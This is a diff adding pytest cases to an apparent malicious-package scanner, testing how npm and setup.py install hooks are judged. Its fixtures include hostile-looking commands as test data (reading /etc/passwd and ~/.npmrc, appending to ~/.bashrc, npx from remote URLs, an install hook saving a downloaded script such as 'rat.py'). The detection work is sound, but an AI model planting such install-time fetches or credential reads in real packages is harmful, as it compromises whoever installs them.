@@ -142,3 +142,159 @@ def test_npm_install_steps_that_are_no_build_still_warn(
     result = analyze_artifact(npm_package(tmp_path, {"preinstall": script}, files))
     hooks = {(a.file, a.line): a.action for a in result.alerts if a.type == "installScripts"}
     assert hooks.get(("package.json", 6)) in ("warn", "error"), hooks
+
+
+@pytest.mark.parametrize(
+    "finding",
+    [
+        spawn("git rev-parse --verify HEAD > .gitrev"),  # the build's own file
+        spawn("dirname", '"$0"'),
+        spawn("sed", "'s/[^.0-9]//g'"),
+        spawn("head", "-n 1"),
+        spawn("npx", 'bin-version-check-cli python ">=2"'),
+        spawn("npx", "-y @scope/check-tool@1.2.0 --quiet"),
+    ],
+)
+def test_build_plumbing_and_registry_tools_keep_install_quiet(finding: Finding) -> None:
+    assert install_is_quiet([finding], PATHS)
+
+
+@pytest.mark.parametrize(
+    "finding",
+    [
+        spawn("git log >> ~/.bashrc"),
+        spawn("cat", "/etc/passwd"),
+        spawn("sed", "-n p $HOME/.npmrc"),
+        spawn("npx", "https://tools.example.invalid/t.tgz"),
+        spawn("npx", "github:someone/tool"),
+        spawn("pnpm", "dlx ./run.js"),
+    ],
+)
+def test_plumbing_that_leaves_the_build_tree_is_no_build(finding: Finding) -> None:
+    assert not install_is_quiet([finding], PATHS)
+
+
+def fetch(url: str) -> list[Finding]:
+    props = {"detail": "urllib.request.urlopen", "url": url}
+    return [
+        Finding("networkAccess", "setup.py", 9, "urlopen(URL)", {"module": "urllib.request"}),
+        Finding("signal:download", "setup.py", 9, "urlopen(URL)", props),
+    ]
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://src.example.invalid/lib/archive/9526874d1406a13193743c605ba64358d55a8785.tar.gz",
+        "https://src.example.invalid/lib/archive/{}.tar.gz",
+        "https://downloads.example.invalid/libfoo-2.4.1.zip",
+    ],
+)
+def test_pinned_source_archive_download_is_a_build_step(url: str) -> None:
+    assert install_is_quiet(fetch(url))
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://cdn.example.invalid/attachments/1/2/rat.py",  # a script, not build input
+        "http://src.example.invalid/lib/archive/v1.2.tar.gz",  # swappable in transit
+        "https://src.example.invalid/lib/latest.tar.gz",  # no pin
+        "https://{}/lib/1.2.tar.gz",  # computed host
+    ],
+)
+def test_other_install_downloads_keep_install_code_risky(url: str) -> None:
+    assert not install_is_quiet(fetch(url))
+
+
+PINNED_SETUP = """\
+import urllib.request
+from setuptools import setup
+from setuptools.command.build_ext import build_ext
+
+class fetch_ext(build_ext):
+    def run(self):
+        commit = open("LIBFOO_COMMIT").read().strip()
+        urllib.request.urlretrieve(
+            f"https://src.example.invalid/libfoo/archive/{commit}.tar.gz", "libfoo.tar.gz"
+        )
+        super().run()
+
+setup(name="withlib", version="1.0", cmdclass={"build_ext": fetch_ext})
+"""
+
+
+def test_setup_fetching_its_pinned_source_archive_is_monitor(tmp_path: Path) -> None:
+    root = tmp_path / "withlib-1.0"
+    root.mkdir()
+    (root / "setup.py").write_text(PINNED_SETUP)
+    (root / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: withlib\nVersion: 1.0\n")
+    result = analyze_artifact(root)
+    hooks = {(a.file, a.line): a.action for a in result.alerts if a.type == "installScripts"}
+    assert hooks == {("setup.py", 13): "monitor"}, hooks
+    lookalike = PINNED_SETUP.replace("archive/{commit}.tar.gz", "files/{commit}/run.py")
+    (root / "setup.py").write_text(lookalike)
+    result = analyze_artifact(root)
+    hooks = {(a.file, a.line): a.action for a in result.alerts if a.type == "installScripts"}
+    assert hooks == {("setup.py", 13): "warn"}, hooks
+
+
+@pytest.mark.parametrize(
+    "files", [{"lib/README.md": "console.log('docs')\n"}, {}], ids=["shipped", "missing"]
+)
+def test_npm_hook_running_a_file_named_as_docs_blocks(
+    tmp_path: Path, files: dict[str, str]
+) -> None:
+    result = analyze_artifact(npm_package(tmp_path, {"preinstall": "node lib/README.md"}, files))
+    (hook,) = [a for a in result.alerts if a.type == "installScripts"]
+    assert (hook.file, hook.line, hook.action) == ("package.json", 6, "error")
+    assert "lib/README.md" in str(hook.props["reason"])
+    assert result.verdict == "block"
+
+
+@pytest.mark.parametrize(
+    ("script", "files"),
+    [
+        ("node scripts/readme-gen.js", {"scripts/readme-gen.js": "console.log('hi')\n"}),
+        ("node config.json", {"config.json": "{}\n"}),  # node only parses JSON
+    ],
+)
+def test_npm_hook_running_code_with_docs_like_names_does_not_block(
+    tmp_path: Path, script: str, files: dict[str, str]
+) -> None:
+    result = analyze_artifact(npm_package(tmp_path, {"postinstall": script}, files))
+    hooks = {(a.file, a.line): a.action for a in result.alerts if a.type == "installScripts"}
+    assert set(hooks) == {("package.json", 6)} and "error" not in hooks.values(), hooks
+
+
+SAVED_SCRIPT_SETUP = """\
+import requests
+from setuptools import setup
+from setuptools.command.install import install
+
+class fetch_install(install):
+    def run(self):
+        response = requests.get("https://cdn.example.invalid/attachments/1/2/{name}")
+        with open("{name}", "wb") as f:
+            f.write(response.content)
+        install.run(self)
+
+setup(name="fetcher", version="1.0", cmdclass={{"install": fetch_install}})
+"""
+
+
+@pytest.mark.parametrize(
+    ("name", "fires"), [("tool.py", True), ("helper.ps1", True), ("libfoo-1.2.3.tar.gz", False)]
+)
+def test_install_saving_a_downloaded_script_blocks(tmp_path: Path, name: str, fires: bool) -> None:
+    root = tmp_path / "fetcher-1.0"
+    root.mkdir()
+    (root / "setup.py").write_text(SAVED_SCRIPT_SETUP.format(name=name))
+    (root / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: fetcher\nVersion: 1.0\n")
+    result = analyze_artifact(root)
+    found = {(a.type, a.file, a.line): a.action for a in result.alerts if a.type in THREATS}
+    if fires:
+        assert found[("remoteCodeDownload", "setup.py", 7)] == "error", found
+        assert result.verdict == "block"
+    else:
+        assert found == {}, found
